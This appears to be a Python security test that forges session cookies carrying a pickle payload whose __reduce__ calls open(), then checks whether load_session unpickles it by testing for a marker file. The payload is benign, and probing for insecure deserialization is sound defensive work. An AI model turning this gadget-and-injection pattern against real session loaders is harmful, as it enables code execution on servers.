"""A forged payload inside the frame of a real cookie: behind a separator, or in place of its parts."""

import base64
import pickle
import random
import re
import string
import sys
from contextlib import suppress
from datetime import datetime
from pathlib import Path

from sessions import Session, load_session, save_session

SEED = 0

rng = random.Random(SEED)
marker, user = ("".join(rng.choices(string.ascii_letters, k=rng.randint(4, 9))) for _ in range(2))


class Forged:
    """Pickles as a call."""

    def __reduce__(self):
        return open, (marker, "w")


payload = base64.urlsafe_b64encode(pickle.dumps(Forged())).decode()
real = save_session(Session(user, [], datetime(rng.randint(2000, 2024), 5, rng.randint(1, 28))))
cookies = [payload, "." + payload, payload + ".", ":" + payload, payload + ":"]
parts = re.split(r"([.:|~])", real)
cookies += ["".join(parts[:n] + [payload] + parts[n + 1 :]) for n in range(0, len(parts), 2)]
for cookie in cookies:
    with suppress(ValueError, PermissionError, pickle.UnpicklingError):
        load_session(cookie)
sys.exit(0 if Path(marker).exists() else 1)
